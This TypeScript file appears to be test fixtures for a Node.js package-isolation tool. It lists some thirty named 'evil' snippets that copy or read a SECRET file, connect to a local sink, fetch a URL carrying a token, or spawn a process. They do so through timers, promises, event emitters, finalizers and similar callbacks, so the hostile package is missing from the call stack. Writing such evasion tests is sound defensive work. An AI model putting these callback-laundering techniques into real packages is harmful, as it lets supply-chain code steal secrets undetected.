import { techniques } from '../technique.ts';

const fs = `const fs = require('node:fs');`;

/** Called back by Node itself, when nothing of the package is left on the stack. */
export const ASYNCHRONOUS = techniques('field', [
  {
    name: 'timeout',
    deed: 'read',
    says: 'setTimeout(fs.copyFileSync, …)',
    evil: `${fs} exports.run = () => { setTimeout(fs.copyFileSync, 1, SECRET, LOOT); };`,
  },
  {
    name: 'timeout-at-load',
    deed: 'read',
    says: 'the same while it is being loaded',
    source: 'own',
    evil: `${fs} setTimeout(fs.copyFileSync, 20, SECRET, LOOT);`,
  },
  {
    name: 'immediate',
    deed: 'read',
    says: 'setImmediate(fs.copyFileSync, …)',
    source: 'own',
    evil: `${fs} exports.run = () => { setImmediate(fs.copyFileSync, SECRET, LOOT); };`,
  },
  {
    name: 'interval-bound',
    deed: 'read',
    says: 'setInterval of a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => { setInterval(fs.copyFileSync.bind(fs, SECRET, LOOT), 5).unref(); setTimeout(() => {}, 60); };`,
  },
  {
    name: 'timers-module',
    deed: 'read',
    says: "require('node:timers').setTimeout of a renamed bound function",
    source: 'own',
    evil: `${fs} exports.run = () => {
      const act = fs.copyFileSync.bind(fs, SECRET, LOOT);
      Object.defineProperty(act, 'name', { value: 'tick' });
      require('node:timers').setTimeout(act, 1);
    };`,
  },
  {
    name: 'timer-promise',
    deed: 'read',
    says: 'timers/promises and then of a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => { require('node:timers/promises').setTimeout(1).then(fs.copyFileSync.bind(fs, SECRET, LOOT)); };`,
  },
  {
    name: 'proxy-callback',
    deed: 'read',
    says: 'setTimeout of a Proxy of a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => { setTimeout(new Proxy(fs.copyFileSync, {}), 1, SECRET, LOOT); };`,
  },
  {
    name: 'next-tick',
    deed: 'read',
    says: 'process.nextTick(fs.copyFileSync, …)',
    evil: `${fs} exports.run = () => { process.nextTick(fs.copyFileSync, SECRET, LOOT); };`,
  },
  {
    name: 'microtask',
    deed: 'read',
    says: 'queueMicrotask of a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => { queueMicrotask(fs.copyFileSync.bind(fs, SECRET, LOOT)); };`,
  },
  {
    name: 'promise-then',
    deed: 'read',
    says: 'promise.then(fs.readFileSync)',
    evil: `${fs} exports.run = () => { Promise.resolve(SECRET).then(fs.readFileSync).then(prove); };`,
  },
  {
    name: 'promise-then-bound',
    deed: 'read',
    says: 'promise.then(fs.readFileSync.bind(…))',
    evil: `${fs} exports.run = () => { Promise.resolve('utf8').then(fs.readFileSync.bind(fs, SECRET)).then(prove); };`,
  },
  {
    name: 'promise-catch',
    deed: 'read',
    says: 'a rejection handled by a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => { Promise.reject('utf8').catch(fs.readFileSync.bind(fs, SECRET)).then(prove); };`,
  },
  {
    name: 'thenable',
    deed: 'read',
    says: 'a thenable whose then is fs.readFile',
    source: 'own',
    evil: `${fs} exports.run = () => {
      // fs.copyFile(SECRET, LOOT, resolve, reject): the callback is the last argument.
      Promise.resolve({ then: fs.stat.bind(fs, SECRET) }).catch(() => {});
      Promise.resolve({ then: fs.promises.copyFile.bind(fs, SECRET, LOOT, 0) }).catch(() => {});
    };`,
  },
  {
    name: 'emitter',
    deed: 'read',
    says: 'an emitter that a timer triggers',
    evil: `${fs} exports.run = () => {
      const emitter = new (require('node:events'))();
      emitter.on('x', fs.copyFileSync);
      setTimeout(emitter.emit.bind(emitter, 'x', SECRET, LOOT), 1);
    };`,
  },
  {
    name: 'emitter-of-node',
    deed: 'read',
    says: "a bound function listens to a stream's end",
    source: 'own',
    evil: `${fs} exports.run = () => {
      fs.createReadStream(__filename).on('close', fs.copyFileSync.bind(fs, SECRET, LOOT)).resume();
    };`,
  },
  {
    name: 'exit-listener',
    deed: 'read',
    says: "a bound function listens to the process's exit",
    source: 'own',
    evil: `${fs} exports.run = () => { process.once('exit', fs.copyFileSync.bind(fs, SECRET, LOOT)); };`,
  },
  {
    name: 'event-target',
    deed: 'read',
    says: 'an AbortSignal that times out calls a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => {
      AbortSignal.timeout(5).addEventListener('abort', fs.renameSync.bind(fs, SECRET, LOOT));
      setTimeout(() => {}, 50);
    };`,
  },
  {
    name: 'message-port',
    deed: 'read',
    says: "a bound function is a MessagePort's onmessage",
    source: 'own',
    evil: `${fs} exports.run = () => {
      const { port1, port2 } = new MessageChannel();
      port2.onmessage = fs.renameSync.bind(fs, SECRET, LOOT);
      port1.postMessage('now');
      setTimeout(() => port1.close(), 50);
    };`,
  },
  {
    name: 'callback-chain',
    deed: 'read',
    says: 'the callback of one file operation is another one',
    source: 'own',
    evil: `${fs} exports.run = () => { fs.stat(__filename, fs.copyFile.bind(fs, SECRET, LOOT, fs.unlink.bind(fs, LOOT + '.none', () => {}))); };`,
  },
  {
    name: 'promisified',
    deed: 'read',
    says: 'util.promisify(fs.readFile), called by a promise',
    source: 'own',
    evil: `${fs} exports.run = () => { Promise.resolve(SECRET).then(require('node:util').promisify(fs.readFile)).then(prove); };`,
  },
  {
    name: 'async-generator',
    deed: 'read',
    says: 'an async generator resumed by Node',
    source: 'own',
    evil: `${fs} exports.run = () => {
      const steps = (async function* () { await null; yield fs.promises.readFile(SECRET, 'utf8'); })();
      setImmediate(() => steps.next().then(({ value }) => prove(value)));
    };`,
  },
  {
    name: 'after-await',
    deed: 'read',
    says: 'after many awaits',
    source: 'own',
    evil: `${fs} exports.run = async () => { for (let i = 0; i < 50; i++) await null; prove(fs.readFileSync(SECRET, 'utf8')); };`,
  },
  {
    name: 'async-resource',
    deed: 'read',
    says: 'AsyncResource.bind around a bound function',
    source: 'own',
    evil: `${fs} exports.run = () => {
      const { AsyncResource } = require('node:async_hooks');
      setTimeout(AsyncResource.bind(fs.copyFileSync.bind(fs, SECRET, LOOT)), 1);
    };`,
  },
  {
    name: 'handed-to-innocent',
    deed: 'read',
    says: 'the innocent package is handed a bound function and calls it later',
    source: 'own',
    evil: `${fs} exports.run = (innocent) => { innocent.later(fs.copyFileSync.bind(fs, SECRET, LOOT)); };`,
  },
  {
    name: 'array-map',
    deed: 'read',
    says: 'a native callback: [file].map(fs.readFileSync)',
    evil: `${fs} exports.run = () => prove(['utf8'].map(fs.readFileSync.bind(fs, SECRET)).join());`,
    source: 'own',
  },
  {
    name: 'replace-callback',
    deed: 'read',
    says: 'String.prototype.replace with a file function as replacer, in a timer',
    source: 'own',
    evil: `${fs} exports.run = () => { setTimeout(() => prove(SECRET.replace(/^.*$/s, fs.readFileSync.bind(fs, SECRET, 'utf8'))), 1); };`,
  },
  {
    name: 'finalization',
    deed: 'read',
    says: 'a FinalizationRegistry calls a bound function',
    source: 'own',
    options: ['--expose-gc'],
    evil: `${fs} exports.run = () => {
      const registry = new FinalizationRegistry(fs.copyFileSync.bind(fs, SECRET, LOOT));
      globalThis.kept = registry;
      (() => registry.register({}, 0))();
      setTimeout(gc, 5); setTimeout(gc, 20); setTimeout(() => {}, 60);
    };`,
  },
  {
    name: 'server-callback',
    deed: 'read',
    says: "a bound function is a server's connection listener",
    source: 'own',
    evil: `${fs} const net = require('node:net'); exports.run = () => {
      const server = net.createServer(fs.renameSync.bind(fs, SECRET, LOOT)).listen(0, '127.0.0.1', () => {
        net.connect(server.address().port, '127.0.0.1').on('connect', function () { this.destroy(); setTimeout(() => server.close(), 20); });
      });
      server.unref(); setTimeout(() => {}, 80);
    };`,
  },
  {
    name: 'connect-later',
    deed: 'connect',
    says: 'a timer calls net.connect',
    source: 'own',
    evil: `const net = require('node:net'); exports.run = () => {
      setTimeout(net.connect, 1, { port: SINK, host: '127.0.0.1' });
      setTimeout(() => {}, 50);
    };`,
  },
  {
    name: 'spawn-later',
    deed: 'spawn',
    says: 'a microtask calls child_process.execFile',
    source: 'own',
    evil: `const { execFile } = require('node:child_process'); exports.run = () => { queueMicrotask(execFile.bind(null, STUB, [])); };`,
  },
  {
    name: 'fetch-later',
    deed: 'connect',
    says: 'a promise calls fetch',
    source: 'own',
    evil: `exports.run = () => { Promise.resolve('http://127.0.0.1:' + SINK + '/' + TOKEN).then(fetch).catch(() => {}); };`,
  },
  {
    name: 'deep-recursion',
    deed: 'read',
    says: 'called at the bottom of 400 frames of the innocent package',
    evil: `${fs} exports.run = (innocent) => { innocent.deep(400, fs.copyFileSync, SECRET, LOOT); };`,
    source: 'own',
  },
  {
    name: 'deep-recursion-own',
    deed: 'read',
    says: 'called at the bottom of 5,000 frames of its own, each a `new Function`',
    source: 'own',
    evil: `${fs} exports.run = () => {
      const down = new Function('n', 'fn', 'self', 'return n === 0 ? fn() : self(n - 1, fn, self)');
      setTimeout(down, 1, 5000, fs.copyFileSync.bind(fs, SECRET, LOOT), down);
    };`,
  },
]);
